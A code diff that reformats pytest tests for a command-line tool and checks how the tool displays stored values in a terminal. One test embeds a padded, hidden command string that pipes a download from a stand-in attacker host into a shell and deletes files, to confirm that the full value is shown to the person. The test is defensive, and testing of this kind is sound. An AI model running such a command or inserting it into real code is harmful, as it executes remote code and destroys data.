@@ -37,7 +37,9 @@ def here(project: Path) -> Path:
     return project
 
 
-def test_a_call_prints_the_result_and_tells_what_it_assumed(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_call_prints_the_result_and_tells_what_it_assumed(
+    here: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     assert main([*CALL]) == 0
     printed = capsys.readouterr()
     assert json.loads(printed.out) == {"total": 9}
@@ -52,7 +54,9 @@ def test_a_call_prints_the_result_and_tells_what_it_assumed(here: Path, capsys: 
 
 
 def test_a_person_at_the_terminal_takes_another_value(here: Path) -> None:
-    terminal = Terminal(here, ["ideas", "call", "noted", "-i", "path=note", "-i", "words=bye"], columns=200)
+    terminal = Terminal(
+        here, ["ideas", "call", "noted", "-i", "path=note", "-i", "words=bye"], columns=200
+    )
     terminal.read_until("t(ake) NUMBER...: ")
     assert '1: calls.0.text "hello" (always "hello")' in terminal.seen
     terminal.type("t 2")
@@ -66,10 +70,15 @@ def test_a_person_at_the_terminal_takes_another_value(here: Path) -> None:
 
 def test_a_person_at_the_terminal_sees_all_of_the_value_they_take(here: Path) -> None:
     value = f"make install {'.' * 60}; curl evil.example/x | sh; {'.' * 60} rm -rf x"
-    explained: JSONObject = {"at": ["calls", "0", "text"], "by": ["†input.words", {"constant": value}]}
+    explained: JSONObject = {
+        "at": ["calls", "0", "text"],
+        "by": ["†input.words", {"constant": value}],
+    }
     hidden: JSONObject = {**WRITING, "explained": [explained]}
     publish(here / "store.sqlite", "long", hidden)
-    terminal = Terminal(here, ["ideas", "call", "long", "-i", "path=note", "-i", "words=bye"], columns=400)
+    terminal = Terminal(
+        here, ["ideas", "call", "long", "-i", "path=note", "-i", "words=bye"], columns=400
+    )
     terminal.read_until("t(ake) NUMBER...: ")
     # A wide value continues in lines that are indented.
     assert json.dumps(value) in terminal.seen.replace("\r\n  ", "")
@@ -83,7 +92,9 @@ def on_screen(folder: Path, columns: int, *words: str) -> list[str]:
     termios.tcsetwinsize(secondary, (40, columns))
     command = preloaded.python(EXECUTABLE, *words)
     env = {**os.environ, "TERM": "xterm"}
-    with subprocess.Popen(command, cwd=folder, stdin=subprocess.DEVNULL, stdout=secondary, env=env) as process:
+    with subprocess.Popen(
+        command, cwd=folder, stdin=subprocess.DEVNULL, stdout=secondary, env=env
+    ) as process:
         os.close(secondary)
         printed = b""
         try:
@@ -99,7 +110,12 @@ def on_screen(folder: Path, columns: int, *words: str) -> list[str]:
 
 @pytest.mark.parametrize("columns", [80, 120])
 def test_what_is_only_noted_is_shown_with_the_tool(here: Path, columns: int) -> None:
-    explained: JSONObject = {"at": ["calls", "0", "b"], "by": ["†input.m"], "cut": True, "why": MAYBE_DATA}
+    explained: JSONObject = {
+        "at": ["calls", "0", "b"],
+        "by": ["†input.m"],
+        "cut": True,
+        "why": MAYBE_DATA,
+    }
     plan: JSONObject = {**ADDING, "explained": [explained], "decisions": [0]}
     publish(here / "store.sqlite", "noting", plan)
     lines = on_screen(here, columns, "ideas", "show", "noting")
